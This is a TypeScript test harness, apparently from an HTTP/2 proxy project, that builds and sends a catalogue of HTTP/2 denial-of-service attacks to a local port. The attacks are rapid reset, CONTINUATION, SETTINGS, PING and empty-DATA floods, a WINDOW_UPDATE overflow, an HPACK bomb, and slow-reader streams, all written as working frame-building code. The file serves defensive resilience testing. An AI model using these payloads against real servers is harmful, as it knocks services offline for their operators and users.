// What attackers of HTTP/2 send, and how.

import { connect, type Socket } from 'node:net'
import { writeFields } from '../../src/h2/field-writer.ts'
import { clientPreface, flag, frameType } from '../../src/h2/protocol.ts'
import { data, frame, settings, settingsAck, word } from './pair.ts'

const call = writeFields([
  ...[
    ':method',
    'POST',
    ':scheme',
    'http',
    ':path',
    '/any/Call',
    ':authority',
    'x',
    'content-type',
    'application/grpc',
    'te',
    'trailers',
  ],
])
const open = (streamId: number, flags: number = flag.endHeaders) => frame(frameType.headers, flags, streamId, call)
const each = (count: number, make: (i: number) => Buffer) =>
  Buffer.concat(Array.from({ length: count }, (_, i) => make(i)))

export interface Attack {
  readonly name: string
  /** One piece of the attack; it is sent until the connection ends, or `pieces` times. */
  readonly piece: (n: number) => Buffer
  readonly pieces: number
  readonly readsNothing?: boolean
}

const per = 500
export const attacks: readonly Attack[] = [
  {
    name: 'rapid reset',
    pieces: 400,
    piece: (n) =>
      each(per, (i) => {
        const id = 2 * (n * per + i) + 1
        return Buffer.concat([open(id), frame(frameType.rstStream, 0, id, word(8))])
      }),
  },
  {
    name: 'CONTINUATION flood',
    pieces: 400,
    piece: (n) =>
      Buffer.concat([
        n === 0 ? open(1, 0) : Buffer.alloc(0),
        each(per, () => frame(frameType.continuation, 0, 1, Buffer.alloc(100, 0x86))),
      ]),
  },
  { name: 'SETTINGS flood', pieces: 400, piece: () => each(per, () => settings([4, 70_000])), readsNothing: true },
  {
    name: 'PING flood',
    pieces: 400,
    piece: () => each(per, () => frame(frameType.ping, 0, 0, Buffer.alloc(8))),
    readsNothing: true,
  },
  {
    name: 'empty DATA flood',
    pieces: 400,
    piece: (n) => Buffer.concat([n === 0 ? open(1) : Buffer.alloc(0), each(per, () => data(1, Buffer.alloc(0)))]),
  },
  {
    name: 'WINDOW_UPDATE overflow',
    pieces: 1,
    piece: () => Buffer.concat([open(1), each(4, () => frame(frameType.windowUpdate, 0, 0, word(2 ** 31 - 1)))]),
  },
  {
    name: 'HPACK bomb',
    pieces: 50,
    piece: (n) => {
      const entry = Buffer.concat([Buffer.from([0x40, 1, 0x61, 0x7f, 0xa1, 0x1e]), Buffer.alloc(4000, 0x62)])
      const block = n === 0 ? Buffer.concat([call, entry]) : Buffer.concat([call, Buffer.alloc(16_000, 0xbe)])
      return frame(frameType.headers, flag.endHeaders | flag.endStream, 2 * n + 1, block)
    },
  },
  {
    name: 'calls that Node takes for broken, and ends the connection for',
    pieces: 20,
    piece: (n) =>
      each(100, (i) => {
        const block = writeFields([
          ':method',
          'POST',
          ':scheme',
          'http',
          ':path',
          '/a',
          'content-type',
          'application/grpc',
        ])
        return frame(frameType.headers, flag.endHeaders | flag.endStream, 2 * (n * 100 + i) + 1, block)
      }),
  },
  {
    // A call that is open takes 5 to 7 KiB, and who opens many of them is within its rights.
    name: 'slow reader that opens and never reads',
    pieces: 5,
    piece: (n) => each(100, (i) => open(2 * (n * 100 + i) + 1, flag.endHeaders | flag.endStream)),
    readsNothing: true,
  },
  {
    name: 'calls that never end, with as much as their windows hold',
    pieces: 12,
    piece: (n) => Buffer.concat([open(2 * n + 1), each(15, () => data(2 * n + 1, Buffer.alloc(16_384)))]),
    readsNothing: true,
  },
]

/** Resolves when all has been sent, or the proxy has ended the connection, or takes no more. */
export async function attack(port: number, { piece, pieces, readsNothing, name }: Attack): Promise<Socket> {
  const socket = connect(port, '127.0.0.1')
    .on('error', () => {})
    .setMaxListeners(0)
  if (readsNothing) socket.pause()
  else socket.resume()
  // A bomb needs the table that it may use before it acknowledges ours.
  socket.write(Buffer.concat([clientPreface, settings(), ...(name === 'HPACK bomb' ? [] : [settingsAck])]))
  for (let n = 0; n < pieces && !socket.destroyed && socket.writable; n += 1) {
    const isTaken = socket.write(piece(n))
    if (!isTaken) {
      await Promise.race([
        new Promise((resolve) => socket.once('drain', resolve).once('close', resolve)),
        new Promise((resolve) => setTimeout(resolve, 200)),
      ])
    }
  }
  return socket
}
